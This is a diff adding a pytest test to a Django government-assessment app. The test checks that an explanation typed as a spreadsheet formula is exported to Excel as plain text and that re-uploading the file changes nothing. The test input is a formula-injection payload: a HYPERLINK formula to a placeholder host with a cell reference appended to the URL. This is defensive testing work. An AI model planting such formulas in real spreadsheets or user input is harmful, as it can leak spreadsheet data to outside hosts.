@@ -14,7 +14,7 @@ from friendlygov.assessments.models import IndicatorScore
 from friendlygov.assessments.testing import plausible_value, quick_fill_self
 from friendlygov.audit.models import AuditEvent
 
-from .excel_fixtures import convert, workbook
+from .excel_fixtures import convert, formula_cells, workbook
 
 pytestmark = pytest.mark.django_db
 FIRST = layout.TEMPLATE_HEADER_ROW + 1
@@ -113,6 +113,25 @@ def test_uploading_the_same_file_again_changes_nothing(people, dong_cam):
     assert upload(officer, as_bytes(book)).status_code == 302
     before = snapshot(dong_cam)
     assert upload(officer, as_bytes(book)).status_code == 302  # same values: nothing to save
+    assert snapshot(dong_cam) == before
+
+
+def test_an_explanation_written_as_a_formula_goes_out_as_text_and_comes_back_identical(people, dong_cam):
+    """Formula injection: the template carries the text, never a live formula, and re-importing
+    the untouched file changes nothing."""
+    officer = people["officer"]
+    typed = '=HYPERLINK("http://example.invalid/"&C7,"Xem tài liệu")'
+    score = dong_cam.scores.select_related("indicator").order_by("indicator__order").first()
+    services.save_self_score(score, expected_version=score.version, actor=officer.user, explanation=typed)
+    url = reverse("reports:self_assessment_template", args=[dong_cam.cycle.year])
+    data = officer.get(url, {"unit": dong_cam.unit.code}).content
+    assert formula_cells(data) == []
+    sheet = workbook(data)[dong_cam.unit.code]
+    cells = [sheet.cell(row=r, column=layout.COL_EXPLANATION) for r in range(FIRST, sheet.max_row + 1)]
+    (cell,) = [c for c in cells if c.value == typed]
+    assert cell.data_type == "s"
+    before = snapshot(dong_cam)
+    assert upload(officer, data).status_code == 302
     assert snapshot(dong_cam) == before
 
 
